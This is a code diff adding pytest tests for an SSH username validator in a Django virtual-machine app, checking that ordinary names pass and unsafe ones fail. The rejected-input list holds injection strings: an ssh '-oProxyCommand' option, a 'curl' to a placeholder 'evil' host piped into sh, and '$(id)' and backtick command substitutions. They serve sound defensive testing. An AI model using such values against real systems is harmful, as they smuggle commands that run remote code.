@@ -7,7 +7,7 @@ from django.db import IntegrityError
 from accounts.tests.factories import UserFactory
 from machines.models import VirtualMachine
 from machines.tests.factories import VirtualMachineFactory
-from machines.validators import SSH_KEY_MAX_BYTES, validate_host, validate_ssh_private_key
+from machines.validators import SSH_KEY_MAX_BYTES, validate_host, validate_ssh_private_key, validate_ssh_username
 
 
 @pytest.mark.parametrize(
@@ -41,6 +41,20 @@ def test_invalid_hosts_are_rejected_with_a_clear_message(host):
         validate_host(host)
 
     assert error.value.code == "invalid_host"
+
+
+@pytest.mark.parametrize("username", ["ubuntu", "root", "jane.doe", "svc_build-01", "jane@corp.example", "_apt"])
+def test_ordinary_ssh_usernames_are_accepted(username):
+    validate_ssh_username(username)
+
+
+@pytest.mark.parametrize(
+    "username",
+    ["", "two words", "-oProxyCommand=x", "a;curl${IFS}evil|sh", "$(id)", "`id`", "me'quote", "tab\there", "dom\\user"],
+)
+def test_ssh_usernames_a_shell_or_ssh_would_misread_are_rejected(username):
+    with pytest.raises(ValidationError, match="letters, digits and"):
+        validate_ssh_username(username)
 
 
 def test_openssh_and_pem_private_keys_are_accepted(ssh_private_key, rsa_pem_private_key):
